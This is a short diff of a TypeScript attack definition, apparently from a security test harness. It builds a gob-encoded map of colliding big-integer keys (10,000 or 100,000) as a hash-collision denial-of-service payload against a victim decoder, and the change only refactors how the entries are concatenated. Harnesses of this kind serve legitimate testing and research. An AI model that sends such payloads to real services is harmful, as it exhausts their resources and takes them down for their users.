@@ -9,10 +9,10 @@ export default defineAttack<number>({
   victim: { flags: ["--counter=count"] },
   variants: { "10,000 keys": 10_000, "100,000 keys": 100_000 },
   async run(field, count) {
-    const entries = collidingBigIntegers(count).flatMap((key) => [gobBigUint(key), gobInt(1)]);
+    const entries = Buffer.concat(collidingBigIntegers(count).flatMap((key) => [gobBigUint(key), gobInt(1)]));
     const payload = Buffer.concat([
       mapType(65, gobType.uint, gobType.int),
-      gobMessage(gobInt(65), Buffer.of(0), gobUint(count), ...entries),
+      gobMessage(gobInt(65), Buffer.of(0), gobUint(count), entries),
     ]);
     await field.begin();
     const peer = await field.join();
